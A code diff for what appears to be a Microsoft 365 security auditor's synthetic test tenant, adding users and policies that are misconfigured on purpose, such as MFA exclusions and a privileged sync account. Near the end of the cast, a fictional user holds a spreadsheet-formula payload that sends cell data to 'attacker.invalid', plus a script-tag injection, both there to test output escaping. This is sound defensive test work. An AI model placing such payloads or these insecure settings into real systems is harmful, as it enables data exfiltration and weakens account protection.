@@ -1,7 +1,8 @@
 """The fixed cast and tenant-wide objects of a generated tenant (data for ``tenant_gen``).
 
 Every scenario user exists to make one rule fire (or, as a clean counterpart, not fire); the comment on
-each group of people says which. Tenant-wide objects (Conditional Access, named locations, legacy MFA
+each group of people says which. The tenant's configuration lists ``EMERGENCY_ACCESS`` as its emergency access
+accounts (``auditor.demo.demo_config``). Tenant-wide objects (Conditional Access, named locations, legacy MFA
 service settings, Exchange org settings) are built here in their wire shape.
 """
 
@@ -10,13 +11,26 @@ from __future__ import annotations
 from dataclasses import dataclass
 from typing import Any, Protocol
 
-from auditor.model.roles import BUILTIN_ROLES
+from auditor.model.roles import BUILTIN_ROLES, PRIVILEGED_ROLES
+from auditor.model.special_accounts import DIRECTORY_SYNC_ACCOUNTS
 
 STAFF_GROUP = "All Staff"
 TIER0_GROUP = "Tier0 Admins"
 TIER0_ROLE = "Exchange Administrator"
 SERVICE_GROUP = "Service Accounts"
 BREAKGLASS = "breakglass"
+BREAKGLASS2 = "breakglass2"
+#: the emergency access accounts a tenant's configuration lists (``classification.emergency_access``)
+EMERGENCY_ACCESS = (BREAKGLASS, BREAKGLASS2)
+SYNC_ACCOUNT = "sync_dc01_7f3e9a2c41b5"  # Entra Connect's Sync_<server>_<id> naming
+SYNC_ACCOUNT_RISKY = "sync_legacy01_0b1d2e3f"
+SYNC_ROLE = "Directory Synchronization Accounts"
+#: roles the generated tenant defines beyond the built-in catalog of ``auditor.model.roles``
+EXTRA_ROLES: dict[str, str] = {DIRECTORY_SYNC_ACCOUNTS: SYNC_ROLE}
+GLOBAL_ADMIN_ID = next(tid for tid, name in PRIVILEGED_ROLES.items() if name == "Global Administrator")
+SHAREPOINT_APP_ID = "00000003-0000-0ff1-ce00-000000000000"
+EXCHANGE_APP_ID = "00000002-0000-0ff1-ce00-000000000000"
+SMTP_AUTH_POLICY = "Allow SMTP AUTH for devices"
 
 # Microsoft 365 E5 (includes Entra ID P2 and Exchange Online).
 LICENSED = ("06ebc4ee-1bb5-47dd-8120-11324bc54e06",)
@@ -76,19 +90,20 @@ class Person:
     service: bool = False
     tier0: bool = False
     synced: bool = False
+    interactive: bool = True  # False: only non-interactive sign-ins (``last`` dates the non-interactive one)
+    pim_group: bool = False  # PIM-for-Groups eligible member of the role-assignable group "Tier0 Admins"
+    shared: bool = False  # the user object behind a shared mailbox (Get-Mailbox RecipientTypeDetails)
+    auth_policy: str | None = None  # Get-User AuthenticationPolicy (None: the organisation default applies)
 
 
 # fmt: off
 _MATRIX_NAMES = (
     ("allan.deyoung", "Allan Deyoung"), ("debra.berger", "Debra Berger"), ("emily.braun", "Emily Braun"),
-    ("enrico.cattaneo", "Enrico Cattaneo"), ("gerhart.moller", "Gerhart Møller"),
-    ("isabella.simonsen", "Isabella Simonsen"), ("jonas.thorsen", "Jonas Thorsen"),
-    ("kirsten.madsen", "Kirsten Madsen"), ("lara.castell", "Lara Castell"), ("malik.bauer", "Malik Bauer"),
-    ("nora.lindqvist", "Nora Lindqvist"), ("omar.haddad", "Omar Haddad"),
+    ("enrico.cattaneo", "Enrico Cattaneo"),
 )
-# Every combination of ImapEnabled x PopEnabled x SmtpClientAuthenticationDisabled (true/false/null).
-_MATRIX = tuple((imap, pop, smtp) for imap in (False, True) for pop in (False, True)
-                for smtp in (True, False, None))
+# The combinations of ImapEnabled x PopEnabled x SmtpClientAuthenticationDisabled (true/false/null) that no other
+# scenario mailbox has: with them the cast holds all twelve (a tenant as small as 40 users included).
+_MATRIX = ((False, True, True), (False, True, False), (True, False, True), (True, True, False))
 _GA, _ACTIVE = "Global Administrator", "active"
 
 SCENARIOS: tuple[Person, ...] = (
@@ -118,14 +133,38 @@ SCENARIOS: tuple[Person, ...] = (
     # Clean admin: no per-user MFA, registered, recent sign-in, mailbox locked down.
     Person("nestor.wilke", "Nestor Wilke", "Collaboration Lead", "IT",
            roles=(("SharePoint Administrator", _ACTIVE),)),
-    # Break-glass Global Admin excluded from the MFA CA policies (ca-mfa-excluded, high).
+    # --- Emergency access accounts (classification.emergency_access) and PIM ---
+    # Break-glass account as Microsoft and CIS 1.1.2 want it: excluded from Conditional Access, permanent active
+    # Global Administrator, FIDO2, no mailbox or licence, cloud-only. Configured as emergency access, it fires
+    # nothing; unconfigured, it is ca-mfa-excluded (high) and emergency-access-weak lists it as a candidate.
     Person(BREAKGLASS, "Break Glass (emergency access)", None, None, methods=FIDO2, last=25, mailbox=None,
            staff=False, roles=((_GA, _ACTIVE),)),
+    # Second emergency access account, weak (emergency-access-weak): no phishing-resistant method and only
+    # PIM-eligible for Global Administrator. Both break-glass accounts are in EMERGENCY_ACCESS (demo config).
+    Person(BREAKGLASS2, "Break Glass 2 (emergency access)", None, None, methods=AUTHENTICATOR, last=60,
+           mailbox=None, staff=False, roles=((_GA, "eligible"),)),
+    # PIM-eligible Global Administrator behind the admin policy's Global Administrator role exclusion and outside
+    # All Staff: ca-mfa-excluded "on activation".
+    Person("amir.rahman", "Amir Rahman", "Cloud Architect", "IT", methods=FIDO2, staff=False,
+           roles=((_GA, "eligible"),)),
+    # PIM-for-Groups eligible member of Tier0 Admins (Exchange Administrator once activated): phone-only methods
+    # (admin-phone-only-mfa) and never activated for 120 days (stale-admin, eligible via the group).
+    Person("johanna.lorenz", "Johanna Lorenz", "Messaging Administrator", "IT", methods=("mobilePhone",),
+           last=120, non_interactive=False, pim_group=True),
+    # --- Directory sync accounts (Directory Synchronization Accounts role) ---
+    # Entra Connect's account as Microsoft sets it up: sync role only, excluded from CA, non-interactive only.
+    Person(SYNC_ACCOUNT, "On-Premises Directory Synchronization Service Account", None, None, registered=False,
+           last=0.05, interactive=False, mailbox=None, staff=False, roles=((SYNC_ROLE, _ACTIVE),)),
+    # A sync account someone also made Global Administrator and signs in with interactively (sync-account-risk);
+    # as a Global Administrator it is an admin like any other (ca-mfa-excluded through the role exclusion).
+    Person(SYNC_ACCOUNT_RISKY, "Directory Sync (old server)", None, None, last=3, mailbox=None, staff=False,
+           roles=((SYNC_ROLE, _ACTIVE), (_GA, _ACTIVE))),
     # --- Service accounts (default UPN regex; all in the "Service Accounts" group) ---
     # svc-scanner: per-user MFA enforced must NOT fire daily-account-per-user-mfa; IMAP + SMTP AUTH on;
-    # successful legacy SMTP; in All Staff but excluded from its legacy-auth block (legacy-auth-block-excluded).
+    # successful legacy SMTP; in All Staff but excluded from its legacy-auth block (legacy-auth-block-excluded);
+    # assigned the Exchange authentication policy that allows Basic SMTP (exchange-basic-auth-allowed).
     Person("svc-scanner", "Scanner Service", None, None, mfa="enforced", registered=False, last=0.2,
-           mailbox=(True, False, False), service=True),
+           mailbox=(True, False, False), service=True, auth_policy=SMTP_AUTH_POLICY),
     # svc-relay: pinned to HQ by a block-outside-location policy (must NOT fire ca-mfa-excluded).
     Person("svc-relay", "SMTP Relay", None, None, registered=False, last=0.3, mailbox=(False, False, False),
            staff=False, service=True),
@@ -136,6 +175,7 @@ SCENARIOS: tuple[Person, ...] = (
     # --- Daily accounts with per-user MFA (daily-account-per-user-mfa: enforced medium, enabled low) ---
     Person("joni.sherman", "Joni Sherman", "Paralegal", "Legal", mfa="enforced"),
     Person("lynne.robbins", "Lynne Robbins", "Planner", "Operations", mfa="enforced", synced=True),
+    # Excluded from "Require MFA for All Staff": no CA covers her (ca-mfa-excluded, per-user-mfa-migration-gap).
     Person("miriam.graham", "Miriam Graham", "Director", "Sales", mfa="enforced"),
     Person("pradeep.gupta", "Pradeep Gupta", "Accountant", "Finance", mfa="enabled"),
     Person("lidia.holloway", "Lidia Holloway", "Product Manager", "Engineering", mfa="enabled", synced=True),
@@ -145,14 +185,20 @@ SCENARIOS: tuple[Person, ...] = (
            last=150),
     Person("irvin.sayers", "Irvin Sayers", "Engineer", "Engineering", mfa="enforced", enabled=False,
            last=300, mailbox=None),
-    # --- Mailbox matrix: every IMAP x POP x SMTP AUTH combination ---
+    # --- Mailbox matrix: the IMAP x POP x SMTP AUTH combinations the rest of the cast lacks ---
     *(Person(key, name, "Specialist", "Operations", mailbox=combo)
       for (key, name), combo in zip(_MATRIX_NAMES, _MATRIX, strict=True)),
     # --- Legacy sign-ins by daily users; uma.patel has failed attempts only (must NOT fire) ---
     Person("ryan.hart", "Ryan Hart", "Analyst", "Finance", mailbox=(True, True, True)),
     Person("sofia.marin", "Sofía Marín", "Field Engineer", "Operations"),
-    Person("tomas.kral", "Tomáš Král", "Technician", "Facilities"),
+    Person("tomas.kral", "Tomáš Král", "Technician", "Facilities", methods=("mobilePhone",)),  # phone-only
     Person("uma.patel", "Uma Patel", "Analyst", "Sales"),
+    # --- Shared mailboxes with their user objects: one sign-in enabled (shared-mailbox-sign-in-enabled), one
+    # disabled as Microsoft recommends (clean) ---
+    Person("sales", "Sales (shared mailbox)", None, None, registered=False, last=None, shared=True,
+           mailbox=(False, False, True), staff=False),
+    Person("billing", "Billing (shared mailbox)", None, None, registered=False, last=None, shared=True,
+           enabled=False, mailbox=(False, False, True), staff=False),
     # --- Hostile values: renderers must escape HTML and neutralise spreadsheet formulas ---
     Person("eve.mallory", '=HYPERLINK("http://attacker.invalid/?x="&A1,"Eve")',
            '<script>alert("title")</script>', "R&D <Lab>", mailbox=(True, False, None)),
@@ -167,6 +213,7 @@ class SignInPlan:
     count: int
     ips: tuple[str, ...]
     ok: bool = True
+    interactive: bool | None = None  # None: every third sign-in of the tenant is interactive
 
 
 SIGN_INS: tuple[SignInPlan, ...] = (
@@ -180,6 +227,8 @@ SIGN_INS: tuple[SignInPlan, ...] = (
     SignInPlan("sofia.marin", "Exchange ActiveSync", 4, ("203.0.113.77",)),
     SignInPlan("tomas.kral", "Other clients", 2, ("198.51.100.90",)),
     SignInPlan("uma.patel", "Authenticated SMTP", 5, ("192.0.2.99",), ok=False),
+    # Interactive sign-ins by a directory sync account (sync-account-risk).
+    SignInPlan(SYNC_ACCOUNT_RISKY, "Exchange Online PowerShell", 2, ("198.51.100.61",), interactive=True),
 )
 EGRESS_IPS = tuple(f"203.0.113.{i}" for i in range(30, 60)) + tuple(f"192.0.2.{i}" for i in range(10, 40))
 
@@ -245,7 +294,7 @@ DEPARTMENTS = (
     "Facilities",
 )
 
-CA_KEYS = ("a", "b", "c", "d", "e", "f", "g")
+CA_KEYS = ("a", "b", "c", "d", "e", "f", "g", "h", "i", "j")
 NAMED_LOCATIONS = ("hq", "branch", "partner", "cloud", "country")
 AUTHENTICATION_POLICIES = ("block", "smtp")
 _BASIC_AUTH = (
@@ -314,7 +363,7 @@ def role_definitions() -> list[dict[str, Any]]:
             "isBuiltIn": True,
             "isEnabled": True,
         }
-        for tid, name in BUILTIN_ROLES.items()
+        for tid, name in {**BUILTIN_ROLES, **EXTRA_ROLES}.items()
     ]
 
 
@@ -340,6 +389,7 @@ def _policy(
     client_apps: list[str] | None = None,
     locations: dict[str, list[str]] | None = None,
     strength: dict[str, Any] | None = None,
+    exclude_apps: list[str] | None = None,
 ) -> dict[str, Any]:
     scope = {
         k: []
@@ -371,7 +421,7 @@ def _policy(
             "locations": ({"includeLocations": [], "excludeLocations": [], **locations} if locations else None),
             "applications": {
                 "includeApplications": apps,
-                "excludeApplications": [],
+                "excludeApplications": exclude_apps or [],
                 "includeUserActions": [],
                 "includeAuthenticationContextClassReferences": [],
                 "applicationFilter": None,
@@ -392,9 +442,19 @@ def _policy(
 def ca_policies(
     obj: dict[str, str], people: dict[str, str], privileged: list[str], created: str, modified: str
 ) -> list[dict[str, Any]]:
-    """Seven policies: none is an enabled MFA baseline for All users on All apps, none an enabled
-    legacy-auth block for All users; users excluded from the enabled ones fire the exclusion rules."""
-    bg, scanner, relay = people[BREAKGLASS], people["svc-scanner"], people["svc-relay"]
+    """Ten policies and no in-force MFA baseline for All users (so ``mfa-no-baseline`` fires):
+
+    * MFA for the privileged roles, excluding the break-glass accounts, the sync account and — the classic
+      mistake — the Global Administrator role, which exempts PIM-eligible Global Administrators on activation;
+    * MFA for All Staff (a group-scoped all-apps policy: admins outside the group are not covered) excluding one
+      per-user-MFA user;
+    * a legacy block split across two policies for All users, one per client type: the ActiveSync one excludes
+      SharePoint Online and exempts the branch office, the other-clients one excludes Exchange Online and so blocks
+      nothing that matters;
+    * report-only all-users MFA, MFA-or-compliant-device and legacy blocks that count for nothing.
+    """
+    bg, bg2, scanner, relay = people[BREAKGLASS], people[BREAKGLASS2], people["svc-scanner"], people["svc-relay"]
+    sync, miriam = people[SYNC_ACCOUNT], people["miriam.graham"]
     report_only = "enabledForReportingButNotEnforced"
     strength = {
         "id": "00000000-0000-0000-0000-000000000004",
@@ -407,6 +467,7 @@ def ca_policies(
         "allowedCombinations": ["windowsHelloForBusiness", "fido2", "x509CertificateMultiFactor"],
     }
     legacy = ["exchangeActiveSync", "other"]
+    emergency = [bg, bg2]
     p = _policy
     return [
         p(
@@ -415,7 +476,7 @@ def ca_policies(
             report_only,
             created,
             modified,
-            users={"includeUsers": ["All"]},
+            users={"includeUsers": ["All"], "excludeUsers": emergency},
             apps=["All"],
             controls=["mfa"],
         ),
@@ -425,7 +486,11 @@ def ca_policies(
             "enabled",
             created,
             modified,
-            users={"includeRoles": list(privileged), "excludeUsers": [bg]},
+            users={
+                "includeRoles": list(privileged),
+                "excludeUsers": [*emergency, sync],
+                "excludeRoles": [GLOBAL_ADMIN_ID],
+            },
             apps=["All"],
             controls=["mfa"],
         ),
@@ -435,7 +500,7 @@ def ca_policies(
             "enabled",
             created,
             modified,
-            users={"includeUsers": ["All"], "excludeUsers": [bg], "excludeGroups": [obj["group:service"]]},
+            users={"includeUsers": ["All"], "excludeUsers": emergency, "excludeGroups": [obj["group:service"]]},
             apps=["Office365"],
             controls=[],
             strength=strength,
@@ -457,7 +522,7 @@ def ca_policies(
             report_only,
             created,
             modified,
-            users={"includeUsers": ["All"], "excludeUsers": [bg]},
+            users={"includeUsers": ["All"], "excludeUsers": emergency},
             apps=["All"],
             controls=["block"],
             client_apps=legacy,
@@ -475,13 +540,48 @@ def ca_policies(
         ),
         p(
             obj["ca:g"],
-            "Require compliant device (pilot)",
-            "disabled",
+            "Require MFA or compliant device (pilot)",
+            report_only,
             created,
             modified,
-            users={"includeGroups": [obj["group:staff"]]},
+            users={"includeUsers": ["All"], "excludeUsers": emergency},
             apps=["All"],
-            controls=["compliantDevice"],
+            controls=["mfa", "compliantDevice"],
+        ),
+        p(
+            obj["ca:h"],
+            "Require MFA for All Staff",
+            "enabled",
+            created,
+            modified,
+            users={"includeGroups": [obj["group:staff"]], "excludeUsers": [miriam]},
+            apps=["All"],
+            controls=["mfa"],
+        ),
+        p(
+            obj["ca:i"],
+            "Block Exchange ActiveSync basic auth (all users)",
+            "enabled",
+            created,
+            modified,
+            users={"includeUsers": ["All"], "excludeUsers": [*emergency, sync]},
+            apps=["All"],
+            exclude_apps=[SHAREPOINT_APP_ID],
+            controls=["block"],
+            client_apps=["exchangeActiveSync"],
+            locations={"includeLocations": ["All"], "excludeLocations": [obj["loc:branch"]]},
+        ),
+        p(
+            obj["ca:j"],
+            "Block other legacy clients (all users)",
+            "enabled",
+            created,
+            modified,
+            users={"includeUsers": ["All"], "excludeUsers": [*emergency, sync]},
+            apps=["All"],
+            exclude_apps=[EXCHANGE_APP_ID],
+            controls=["block"],
+            client_apps=["other"],
         ),
     ]
 
@@ -537,7 +637,7 @@ def mfa_service_policy() -> dict[str, Any]:
     return {
         "allowAppPasswords": True,
         "trustedIps": {
-            "skipMfaForFederatedUsers": False,
+            "skipMfaForFederatedUsers": True,  # federated-mfa-bypass
             "ipRanges": [
                 "203.0.113.0/24",  # identical to HQ
                 "198.51.100.0/24",  # contains Branch Amsterdam
@@ -617,7 +717,7 @@ def authentication_policies(obj: dict[str, str]) -> list[dict[str, Any]]:
 
     return [
         policy("block", "Block Basic Auth", set()),
-        policy("smtp", "Allow SMTP AUTH for devices", {"Smtp"}),
+        policy("smtp", SMTP_AUTH_POLICY, {"Smtp"}),
     ]
 
 
@@ -627,7 +727,7 @@ def organization_config(name: str, domain: str) -> dict[str, Any]:
         "Identity": f"{name.lower()}.onmicrosoft.com",
         "DisplayName": f"{name[:1].upper()}{name[1:]} Ltd",
         "DefaultAuthenticationPolicy": "Block Basic Auth",
-        "OAuth2ClientProfileEnabled": True,
+        "OAuth2ClientProfileEnabled": False,  # exchange-modern-auth-disabled
         "SmtpActionableMessagesEnabled": True,
         "AuditDisabled": False,
         "IsDehydrated": False,
@@ -656,21 +756,23 @@ def authentication_strengths() -> list[dict[str, Any]]:
     ]
 
 
-def mailbox_type(cas: dict[str, Any]) -> dict[str, Any]:
-    """``Get-Mailbox`` for a mailbox of ``Get-CASMailbox``: a shared one has no user of its own here."""
+def mailbox_type(cas: dict[str, Any], shared: frozenset[str] = frozenset()) -> dict[str, Any]:
+    """``Get-Mailbox`` for a mailbox of ``Get-CASMailbox``: shared when its user is in ``shared`` or it has no user."""
+    owner = cas.get("ExternalDirectoryObjectId")
     return {
         "Guid": cas.get("Guid"),
-        "ExternalDirectoryObjectId": cas.get("ExternalDirectoryObjectId"),
+        "ExternalDirectoryObjectId": owner,
         "DisplayName": cas.get("DisplayName"),
         "PrimarySmtpAddress": cas.get("PrimarySmtpAddress"),
-        "RecipientTypeDetails": "UserMailbox" if cas.get("ExternalDirectoryObjectId") else "SharedMailbox",
+        "RecipientTypeDetails": "SharedMailbox" if not owner or owner in shared else "UserMailbox",
     }
 
 
-def exchange_user(cas: dict[str, Any]) -> dict[str, Any]:
-    """``Get-User``: the per-user Exchange authentication policy (null: the organization default)."""
+def exchange_user(cas: dict[str, Any], policies: dict[str, str] | None = None) -> dict[str, Any]:
+    """``Get-User``: the per-user Exchange authentication policy by name (null: the organization default)."""
+    owner = cas.get("ExternalDirectoryObjectId")
     return {
-        "ExternalDirectoryObjectId": cas.get("ExternalDirectoryObjectId"),
+        "ExternalDirectoryObjectId": owner,
         "UserPrincipalName": cas.get("PrimarySmtpAddress"),
-        "AuthenticationPolicy": None,
+        "AuthenticationPolicy": (policies or {}).get(str(owner)),
     }
